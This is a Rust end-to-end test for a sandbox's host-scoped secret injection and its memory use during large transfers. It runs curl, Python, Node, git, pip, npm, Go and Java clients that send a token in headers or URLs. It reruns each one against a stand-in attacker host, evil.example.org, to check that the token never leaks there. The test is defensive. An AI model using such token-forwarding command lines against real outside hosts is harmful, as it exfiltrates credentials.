//! The long form: many clients of a Debian guest, and large bodies. `make suites ARGS=clients` runs it.

use super::world::{self, TOKEN};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use tests::outside::Outside;
use tests::process::Process;
use tests::{Project, installation};

/// Names an archive of `tests/make-debian` with the clients.
const ARCHIVE_VARIABLE: &str = "E2E_CLIENTS";
const NPM: &str = "npm@10.9.2";
/// How much the memory of the supervisor may grow while a large body passes, in KiB.
const GROWTH_KIB_MAX: u64 = 64 * 1024;
const LARGE_BYTES: u64 = 1 << 30;

const FILE: &str = r#"
project "clients"
sandbox "box" {
    image "./image"; memory "1G"; disk "4G"
    secret "TOKEN" { from env="HOST_TOKEN"; hosts "api.example.org" }
    tls { ca "./test.pem" }
}
"#;

/// The clients: a line of a shell with `HOST` for the host, and the paths that it requests.
const CLIENTS: [(&str, &str, &str); 10] = [
    ("curl", "/curl", r#"curl -sS -H "X-Key: $TOKEN" https://HOST/curl"#),
    ("curl, HTTP/1.1", "/curl1", r#"curl -sS --http1.1 -u "user:$TOKEN" https://HOST/curl1"#),
    (
        "requests",
        "/requests",
        r#"python3 -c 'import os, requests; print(requests.get("https://HOST/requests", headers={"X-Key": os.environ["TOKEN"]}).text)'"#,
    ),
    (
        "httpx",
        "/httpx",
        r#"python3 -c 'import os, httpx; print(httpx.get("https://HOST/httpx", headers={"X-Key": os.environ["TOKEN"]}, timeout=60).text)'"#,
    ),
    (
        "node",
        "/node",
        r#"node -e 'fetch("https://HOST/node", { headers: { "X-Key": process.env.TOKEN } }).then(answer => answer.text()).then(console.log)'"#,
    ),
    (
        "git",
        "/files/repo.git/info/refs",
        r#"git -c http.extraHeader="X-Key: $TOKEN" ls-remote https://HOST/files/repo.git"#,
    ),
    (
        "pip",
        "/files/simple/demo/",
        r#"pip download -q --disable-pip-version-check --no-deps --no-cache-dir -d /tmp/wheels --index-url "https://user:$TOKEN@HOST/files/simple/" demo"#,
    ),
    (
        "npm",
        "/files/npm/demo",
        r#"cd /tmp && echo "//HOST/files/npm/:_authToken=$TOKEN" >.npmrc && node /opt/package/bin/npm-cli.js view demo version --registry https://HOST/files/npm/"#,
    ),
    ("go", "/go", "/client https://HOST/go"),
    ("java", "/java", "java -cp / Client https://HOST/java"),
];

#[test]
#[ignore = "takes minutes: make suites ARGS=clients"]
fn clients_of_a_debian_guest_and_large_bodies() {
    let archive =
        std::env::var_os(ARCHIVE_VARIABLE).map(PathBuf::from).expect("E2E_CLIENTS names an archive");
    let project = Project::new(FILE);
    make_image(&project, &archive);
    let servers = world::start_servers(&project);
    let files = world::folder(&project).join("files");
    world::repository(&files);
    make_packages(&files);
    project.ok(&["trust", "--yes"]);
    let outside = Outside::up_with(&project, world::folder(&project), &[("HOST_TOKEN", TOKEN)]);
    for (client, path, line) in CLIENTS {
        let run = |host: &str| {
            let line = line.replace("HOST", host);
            project.run(&["exec", "box", "--", "bash", "-c", &line])
        };
        let right = run("api.example.org").ok();
        let requests = servers.with_path(path);
        let has_value = |request: &tests::servers::Request| {
            let fields = request.headers.iter().map(|(_, value)| value.as_str());
            request.server == "api.example.org"
                && fields.into_iter().any(|value| value.contains(TOKEN) || value == world::basic(TOKEN))
        };
        assert!(requests.iter().any(has_value), "{client}: {requests:#?}\n{}", right.out());
        let wrong = run("evil.example.org");
        let saw = servers.with_path(path).len();
        assert_eq!(saw, requests.len(), "{client} got to the wrong host\n{}", wrong.out());
        println!("{client}: the value arrives at the right host alone");
    }
    assert_eq!(servers.that_saw(TOKEN), ["api.example.org"]);

    let supervisor = project.processes("box").supervisor;
    let down = format!("curl -sS https://api.example.org/large?{LARGE_BYTES} | wc -c");
    let growth = growth_during(supervisor, || run_long(&project, &down));
    assert!(growth < GROWTH_KIB_MAX, "a download takes {growth} KiB");
    let up = format!("head -c {LARGE_BYTES} /dev/zero | curl -sS -T - https://api.example.org/up");
    let growth = growth_during(supervisor, || run_long(&project, &up));
    assert!(growth < GROWTH_KIB_MAX, "an upload takes {growth} KiB");
    assert_eq!(servers.request("/up").length, LARGE_BYTES);
    drop(outside);
    project.down();
}

/// Runs a line of a shell, however long it takes, and asserts that it succeeds and names the length.
fn run_long(project: &Project, line: &str) {
    let line = format!("set -o pipefail; {line} | grep -w {LARGE_BYTES}");
    let mut child = project.msb(&["exec", "box", "--", "bash", "-c", &line]).spawn();
    assert!(child.wait().expect("a child").success(), "{line}");
}

/// Returns by how many KiB the memory of a process grew at most during something.
fn growth_during(process: Process, action: impl FnOnce()) -> u64 {
    let resident = || {
        let text = fs::read_to_string(format!("/proc/{}/status", process.pid)).expect("it runs");
        let line = text.lines().find_map(|line| line.strip_prefix("RssAnon:")).expect("it has memory");
        line.trim().trim_end_matches(" kB").parse::<u64>().expect("a number")
    };
    let (before, ended) = (resident(), AtomicBool::new(false));
    std::thread::scope(|scope| {
        let sampled = scope.spawn(|| {
            let mut most = before;
            while !ended.load(Ordering::Relaxed) {
                most = most.max(resident());
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
            most
        });
        action();
        ended.store(true, Ordering::Relaxed);
        let most = sampled.join().expect("it ends");
        println!("the supervisor's memory: {before} KiB before, {most} KiB at most");
        most - before
    })
}

/// Unpacks the archive, and adds the clients in Java and Go and the last npm for the node of Debian 12: debootstrap cannot
/// install Debian's.
fn make_image(project: &Project, archive: &Path) {
    let image = project.directory().join("image");
    fs::create_dir(&image).expect("a new directory");
    let run = |command: &mut Command| {
        let output = command.output().expect("it is installed");
        assert!(output.status.success(), "{command:?}: {}", String::from_utf8_lossy(&output.stderr));
    };
    run(Command::new("tar").arg("-xpf").arg(archive).arg("-C").arg(&image));
    let sources = installation::root().join("tests/guest");
    run(Command::new("npm").args(["pack", "--silent", NPM]).current_dir(project.directory()));
    let package = project.directory().join(NPM.replace('@', "-") + ".tgz");
    run(Command::new("tar").arg("-xzf").arg(package).arg("-C").arg(image.join("opt")));
    run(Command::new("javac").args(["--release", "17", "-d"]).arg(&image).arg(sources.join("Client.java")));
    // Without C, so that it has no libraries.
    let mut go = Command::new("go");
    go.args(["build", "-o"]).arg(image.join("client")).arg(sources.join("client.go"));
    run(go.env("CGO_ENABLED", "0").env("GOCACHE", project.directory().join("go")));
}

/// Creates a package for pip and one for npm.
fn make_packages(files: &Path) {
    let simple = files.join("simple/demo");
    fs::create_dir_all(&simple).expect("a new directory");
    fs::create_dir_all(files.join("npm")).expect("a new directory");
    let script = "import sys, zipfile\n\
                  wheel = zipfile.ZipFile(sys.argv[1], 'w')\n\
                  info = 'demo-1.0.dist-info/'\n\
                  wheel.writestr('demo.py', '')\n\
                  wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: demo\\nVersion: 1.0\\n')\n\
                  wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
                  wheel.writestr(info + 'RECORD', '')\n\
                  wheel.close()";
    let name = "demo-1.0-py3-none-any.whl";
    let made = Command::new("python3").args(["-c", script]).arg(simple.join(name)).status();
    assert!(made.expect("python3 is installed").success());
    fs::write(simple.join("index.html"), format!("<a href=\"{name}\">{name}</a>")).expect("a new file");
    let package = r#"{
        "name": "demo", "dist-tags": { "latest": "1.0.0" },
        "versions": { "1.0.0": { "name": "demo", "version": "1.0.0", "dist": { "tarball": "https://api.example.org/none" } } }
    }"#;
    fs::write(files.join("npm/demo"), package).expect("a new file");
}
